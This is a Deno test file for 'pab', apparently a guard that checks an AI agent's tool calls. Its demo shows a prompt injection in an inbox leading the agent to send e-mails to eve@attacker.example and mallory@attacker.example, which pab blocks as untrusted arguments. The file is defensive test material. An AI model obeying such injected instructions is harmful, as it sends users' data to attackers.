import assert from "node:assert/strict";
import { fileURLToPath } from "node:url";
import { memoryIo, runCli } from "../adapters/cli/mod.ts";

const ROOT = fileURLToPath(new URL("../", import.meta.url));
const ESC = String.fromCharCode(27);
const ANSI = new RegExp(`${ESC}\\[\\d+m`, "g");
/** Exactly the flags of the `pab` task in deno.json. */
const PAB_TASK_FLAGS = [
  "--v8-flags=--max-semi-space-size=4",
  "--unstable-kv",
  "--allow-net=localhost",
  "--allow-read",
  "--allow-write=/tmp/pab",
  "--allow-env=DENO_KV_ACCESS_TOKEN",
];

async function runPab(args: string[], flags = PAB_TASK_FLAGS) {
  const output = await new Deno.Command(Deno.execPath(), {
    args: ["run", "--no-prompt", ...flags, "cli.ts", ...args],
    cwd: ROOT,
    stdout: "piped",
    stderr: "piped",
  }).output();
  const text = new TextDecoder();
  return { code: output.code, stdout: text.decode(output.stdout), stderr: text.decode(output.stderr) };
}

Deno.test("the pab task's flags are the ones these tests use", async () => {
  const config = JSON.parse(await Deno.readTextFile(`${ROOT}deno.json`));
  assert.equal(config.tasks.pab, `deno run ${PAB_TASK_FLAGS.join(" ")} cli.ts`);
  assert.equal(config.tasks.start, "deno task pab demo");
});

Deno.test("pab demo shows the hijack succeeding without pab and stopped with pab", async () => {
  const result = await runPab(["demo"]);
  assert.equal(result.stderr, "");
  assert.equal(result.code, 0);
  const stdout = result.stdout.replace(/localhost:\d+/g, "localhost:PORT");
  assert.match(stdout, /\nwithout pab: send_email\(to='eve@attacker\.example'\) runs\nwith pab: send_email: block\n/);
  assert.match(
    stdout,
    /\n- \[untrusted-argument\] to='eve@attacker\.example' appears only in untrusted input from tool:read_inbox\n/,
  );
  assert.match(
    stdout,
    /\nwithout pab: 3 e-mails sent, to eve@attacker\.example, mallory@attacker\.example, alice@corp\.example\n/,
  );
  assert.match(stdout, /\nwith pab: 1 e-mail sent, to alice@corp\.example\n/);
  assert.match(stdout, /\npab stopped 2 hijacked calls .*; the legitimate call to alice@corp\.example went through\n$/);
  assert.equal(stdout, await Deno.readTextFile(`${ROOT}tests/snapshots/cli_demo.txt`));
});

Deno.test("pab demo --record refuses to write inside the repository under the pab task's flags", async () => {
  const target = "traces/examples/should-not-exist.jsonl";
  const result = await runPab(["demo", "--record", target]);
  assert.equal(result.code, 2);
  assert.equal(result.stdout, "");
  assert.equal(
    result.stderr,
    `error: Cannot write the demo trace to "${target}": Deno's permission sandbox refused it\n` +
      "  this run may write only where its --allow-write flag allows, and deno task pab allows only /tmp/pab\n" +
      "  fix: record under /tmp/pab instead (pab demo --record /tmp/pab/demo.jsonl), " +
      `or run cli.ts with --allow-write=${target}\n`,
  );
  await assert.rejects(Deno.stat(`${ROOT}${target}`), Deno.errors.NotFound);
});

Deno.test("pab demo --record saves a trace that pab check replays with the demo policy", async () => {
  // Only /tmp/pab is writable under the pab task's flags; the run creates the folder it records into.
  const dir = `/tmp/pab/demo-test-${crypto.randomUUID()}`;
  try {
    const path = `${dir}/demo.jsonl`;
    const recorded = await runPab(["demo", "--record", path]);
    assert.equal(recorded.code, 0, recorded.stderr);
    assert.match(recorded.stderr, /^recorded the run with pab in .*demo\.jsonl; replay it with:\n/);
    const replayed = await runPab(["check", "--policy", "traces/examples/demo.policy.yaml", path]);
    assert.equal(replayed.stderr, "");
    assert.equal(replayed.code, 1);
    const decisions = replayed.stdout.split("\n").filter((line) => /^[A-Z]/.test(line)).map((line) =>
      line.replace(/, subject=.*$/, ")")
    );
    assert.deepEqual(decisions, [
      "ALLOW   pab-demo#call_1 read_inbox()",
      "BLOCK   pab-demo#call_2 send_email(to='eve@attacker.example')",
      "ALLOW   pab-demo#call_3 fetch_page(url='https://intranet.corp.example/q3-report')",
      "BLOCK   pab-demo#call_4 send_email(to='mallory@attacker.example')",
      "CONFIRM pab-demo#call_5 send_email(to='alice@corp.example')",
    ]);
    const json = await runPab(["check", "--json", "--policy", "traces/examples/demo.policy.yaml", path]);
    const calls = JSON.parse(json.stdout).calls;
    assert.deepEqual(calls[1].reasons.map((reason: { code: string }) => reason.code), [
      "untrusted-argument",
      "tainted-context",
    ]);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("pab demo without network permission exits 2 and says how to fix it", async () => {
  const result = await runPab(["demo"], ["--allow-read"]);
  assert.equal(result.code, 2);
  assert.equal(result.stdout, "");
  assert.equal(
    result.stderr,
    "error: Cannot start the demo's mock server on localhost: Deno's permission sandbox refused network access " +
      "(run with --allow-net=localhost; deno task pab grants it)\n",
  );
});

Deno.test("pab demo --print-policy prints traces/examples/demo.policy.yaml", async () => {
  const memory = memoryIo();
  assert.equal(await runCli(["demo", "--print-policy"], memory.io, { version: "0" }), 0);
  assert.equal(memory.stdout(), await Deno.readTextFile(`${ROOT}traces/examples/demo.policy.yaml`));
});

Deno.test("pab demo in process: the outbox and the verdict, with colour on a terminal", async () => {
  const memory = memoryIo({ isTerminal: true });
  assert.equal(await runCli(["demo"], memory.io, { version: "0" }), 0);
  const plain = memory.stdout().replaceAll(ANSI, "").replace(/localhost:\d+/g, "localhost:PORT");
  assert.equal(plain, await Deno.readTextFile(`${ROOT}tests/snapshots/cli_demo.txt`));
  assert.ok(memory.stdout().includes(`without pab: send_email(to='eve@attacker.example') ${ESC}[31mruns${ESC}[39m`));
  assert.ok(memory.stdout().includes(`with pab: send_email: ${ESC}[32mblock${ESC}[39m`));
});

Deno.test("pab demo rejects arguments it does not know", async () => {
  const memory = memoryIo();
  assert.equal(await runCli(["demo", "now"], memory.io, { version: "0" }), 2);
  assert.equal(memory.stdout(), "");
  assert.equal(memory.stderr(), 'error: unexpected argument "now"\nRun "pab demo --help" for usage.\n');
});
